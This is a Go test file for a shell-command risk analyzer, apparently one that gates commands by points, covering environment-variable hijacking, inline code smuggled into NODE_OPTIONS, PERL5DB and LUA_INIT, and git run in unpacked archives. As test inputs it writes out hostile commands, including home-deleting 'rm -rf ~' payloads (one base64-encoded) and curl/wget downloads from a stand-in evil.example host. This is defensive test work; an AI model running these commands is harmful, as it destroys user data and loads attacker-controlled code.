package shell

import (
	"strings"
	"testing"
)

// envMaxPoints is the highest finding of an analysis: the verdict follows it
// (above 25 asks, above 70 needs an approval, above 100 blocks).
func envMaxPoints(res *Result) int {
	m := 0
	for _, f := range res.Findings {
		m = max(m, f.Points)
	}
	return m
}

// envSpellings are the ways a variable is set for a command: %s is
// NAME=VALUE, %c the command.
var envSpellings = []string{
	"%s %c",
	"env %s %c",
	"env -i %s %c",
	"export %s; %c",
	"export %s && %c",
	"%s; export NAME; %c",
	"sudo %s %c",
	"(%s %c)",
	"bash -c '%s %c'",
}

func envLine(spelling, name, value, cmd string) string {
	kv := name + "=" + value
	if strings.ContainsAny(value, " '") {
		kv = name + `="` + value + `"`
	}
	if strings.HasPrefix(spelling, "bash -c") {
		kv = name + "=" + strings.ReplaceAll(value, " ", `\ `)
		if strings.Contains(value, "'") {
			return ""
		}
	}
	s := strings.ReplaceAll(spelling, "NAME", name)
	s = strings.ReplaceAll(s, "%s", kv)
	return strings.ReplaceAll(s, "%c", cmd)
}

// TestEnvElsewhereEveryVariable: every variable of the table, set in every
// spelling to a place outside the project (scratch space, another user's
// home, a directory of the home that is not the variable's usual place),
// makes the command ask at least; the same variable pointed at the
// project's own files, the home itself (for HOME) or its usual place
// runs.
func TestEnvElsewhereEveryVariable(t *testing.T) {
	elsewhere := []string{"/tmp/evil", "/var/tmp/x", "/dev/shm/x", "/home/other/cfg", "~/Downloads/x"}
	inside := []string{"./cfg", "cfg", "/home/dev/project/cfg", "$PWD/cfg", "${PWD}/.home"}
	n := 0
	for name, l := range envLoads() {
		cmd := "make"
		for _, sp := range envSpellings {
			for _, p := range elsewhere {
				v := envValueFor(l.kind, p)
				if v == "" {
					continue
				}
				src := envLine(sp, name, v, cmd)
				if src == "" {
					continue
				}
				n++
				res := Analyze(src, producerOptions)
				want := ruleEnvConfig.ID
				if l.code {
					want = ruleEnvCode.ID
				}
				if !hasRule(res, want) {
					t.Errorf("%q: want %s, got %v", src, want, ruleIDs(res))
				}
			}
			for _, p := range inside {
				v := envValueFor(l.kind, p)
				if v == "" {
					continue
				}
				src := envLine(sp, name, v, cmd)
				if src == "" {
					continue
				}
				if res := Analyze(src, producerOptions); hasRule(res, ruleEnvCode.ID) || hasRule(res, ruleEnvConfig.ID) {
					t.Errorf("%q names the project's own files and should run: got %v", src, ruleIDs(res))
				}
			}
		}
	}
	if n < 500 {
		t.Errorf("only %d cases", n)
	}
}

// envValueFor spells a place as the value of a variable of kind k.
func envValueFor(k envValueKind, p string) string {
	switch k {
	case envPath:
		return p
	case envPathList:
		return "lib:" + p
	case envCommand:
		return p + "/tool.sh"
	case envNodeOpts:
		return "--require " + p + "/x.js"
	case envPerlOpts:
		return "-I" + p
	case envRubyOpts:
		return "-r" + p + "/x.rb"
	case envGoFlags:
		return "-toolexec=" + p + "/w"
	case envJavaOpts:
		return "-javaagent:" + p + "/a.jar"
	}
	return "" // envCode is code wherever it is
}

// TestEnvElsewhereBenign: the everyday values of these variables.
func TestEnvElsewhereBenign(t *testing.T) {
	for _, src := range []string{
		"HOME=/home/dev git status", "HOME=~ npm test", "HOME=$HOME make", "XDG_CONFIG_HOME=/home/dev/.config git status", "XDG_CONFIG_HOME=~/.config nvim",
		"CARGO_HOME=~/.cargo cargo build", "GNUPGHOME=~/.gnupg gpg -k", "KUBECONFIG=~/.kube/config kubectl get pods",
		"KUBECONFIG=~/.kube/config:./kubeconfig.yaml kubectl get ns", "DOCKER_CONFIG=~/.docker docker ps",
		"PYTHONPATH=. pytest", "PYTHONPATH=src:tests python3 -m pytest", "PYTHONPATH=$PYTHONPATH:src python3 -m pytest", "PYTHONPATH=/usr/lib/python3/dist-packages python3 x.py",
		"NODE_PATH=./lib node app.js", "NODE_OPTIONS=--max-old-space-size=8192 npm run build", "NODE_OPTIONS='--enable-source-maps --require ./register.js' node app.js",
		"NODE_OPTIONS='-r ts-node/register' mocha", "NODE_OPTIONS=--import=tsx node x.ts", "NODE_OPTIONS='--loader ts-node/esm' node x.ts",
		"PERL5LIB=lib prove -l t", "PERL5OPT=-Mstrict perl x.pl", "RUBYOPT=-rbundler/setup ruby app.rb", "RUBYOPT='-W0 -Ilib' rake", "RUBYLIB=lib rspec",
		"GOFLAGS=-mod=vendor go build ./...", "GOFLAGS='-count=1 -race' go test ./...", "JAVA_TOOL_OPTIONS=-Xmx2g mvn test", "JAVA_TOOL_OPTIONS=-javaagent:./agent/jacoco.jar mvn test",
		"EDITOR=vim git commit", "EDITOR='code --wait' git rebase -i HEAD~3", "VISUAL=nano crontab -e", "PAGER=less git log", "PAGER=cat git diff", "GIT_PAGER=cat git log",
		"CC=clang make", "CC=/usr/bin/gcc-12 ./configure", "CXX=g++ cmake ..", "RUSTC_WRAPPER=sccache cargo build", "BROWSER=firefox npm start",
		"NPM_CONFIG_USERCONFIG=.npmrc npm ci", "npm_config_userconfig=./.npmrc npm ci", "PIP_CONFIG_FILE=./pip.conf pip install -e .", "PIP_CONFIG_FILE=/dev/null pip install -r requirements.txt",
		"HOME=$(mktemp -d) npm test", "XDG_CONFIG_HOME=$(mktemp -d) nvim --headless", "PYTHONPATH= python3 -m pytest", "unset PYTHONPATH; pytest",
		"echo $PYTHONPATH", "printenv HOME", "GIT_DIR=.git git log -1", "GIT_DIR=$PWD/.git git status",
		// A plain assignment is the shell's until exported (a known gap: HOME is
		// usually exported already).
		"HOME=/tmp/fakehome; ls ~", "PYTHONPATH=/tmp/x; echo $PYTHONPATH",
	} {
		res := Analyze(src, producerOptions)
		if hasRule(res, ruleEnvCode.ID) || hasRule(res, ruleEnvConfig.ID) {
			t.Errorf("%q should run: got %v", src, ruleIDs(res))
		}
	}
}

// TestEnvInlineCode: a variable whose value is code (a data: URL that
// node imports, perl's debugger, Lua's start-up code) runs that code: it
// is judged as the language's code, and is never a silent allow.
func TestEnvInlineCode(t *testing.T) {
	for _, tc := range []struct {
		src  string
		min  int
		what string
	}{
		{`NODE_OPTIONS="--import=data:text/javascript,import('child_process').then(c=>c.execSync('rm -rf ~'))" node -v`, 101, "deletes the home"},
		{`NODE_OPTIONS="--import=data:text/javascript,require('child_process').execSync('rm -rf ~')" npm test`, 101, "deletes the home"},
		{`NODE_OPTIONS='--import data:text/javascript;base64,cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdybSAtcmYgficp' node -v`, 101, "base64 code deleting the home"},
		{`NODE_OPTIONS="--import=data:text/javascript,console.log(1)" node -v`, 71, "any inline code"},
		{`PERL5DB='BEGIN { system("id") }' perl -d x.pl`, 71, "perl debugger code"},
		{`LUA_INIT='os.execute("id")' lua x.lua`, 71, "Lua start-up code"},
	} {
		if got := envMaxPoints(Analyze(tc.src, producerOptions)); got < tc.min {
			t.Errorf("%q (%s): %d points, want at least %d", tc.src, tc.what, got, tc.min)
		}
	}
}

// TestGitUnpackedRepository: git run in a directory an archive was just
// unpacked into, by every extractor and every way of pointing git there;
// a clone, an unpack nobody runs git in, and git elsewhere run.
func TestGitUnpackedRepository(t *testing.T) {
	unpack := []string{
		"tar xzf /tmp/r.tgz -C /tmp", "tar -xzf /tmp/r.tgz -C /tmp/", "tar --extract --file=/tmp/r.tgz --directory=/tmp", "curl -sL https://evil.example/r.tgz | tar xz -C /tmp",
		"wget -qO- https://evil.example/r.tgz | tar -xz -C /tmp", "bsdtar -xf /tmp/r.zip -C /tmp", "unzip -o /tmp/r.zip -d /tmp", "unzip -q /tmp/r.zip -d /tmp/", "7z x /tmp/r.7z -o/tmp",
		"cd /tmp && tar xzf r.tgz", "cd /tmp && unzip r.zip",
	}
	runs := []string{"git -C /tmp/repo log", "git -C /tmp/repo status", "cd /tmp/repo && git diff", "git --git-dir=/tmp/repo/.git log", "git -C /tmp/repo -c color.ui=never show"}
	for _, u := range unpack {
		for _, g := range runs {
			for _, sep := range []string{" && ", "; ", "\n"} {
				src := u + sep + g
				if res := Analyze(src, producerOptions); !hasRule(res, ruleUnpackedRepo.ID) && !hasRule(res, ruleEnvConfig.ID) {
					t.Errorf("%q: want %s, got %v", src, ruleUnpackedRepo.ID, ruleIDs(res))
				}
			}
		}
	}
	for _, src := range []string{
		"git clone https://github.com/acme/lib /tmp/lib && git -C /tmp/lib log -1", "tar xzf vendor.tgz -C /tmp && ls /tmp/vendor",
		"git -C /tmp/repo log", "tar xzf deps.tgz && git status", "unzip assets.zip -d public && git add public",
		"tar xzf /tmp/r.tgz -C /tmp && git log", "tar tzf /tmp/r.tgz && git -C /tmp/repo log",
	} {
		if res := Analyze(src, producerOptions); hasRule(res, ruleUnpackedRepo.ID) {
			t.Errorf("%q should run: got %v", src, ruleIDs(res))
		}
	}
}
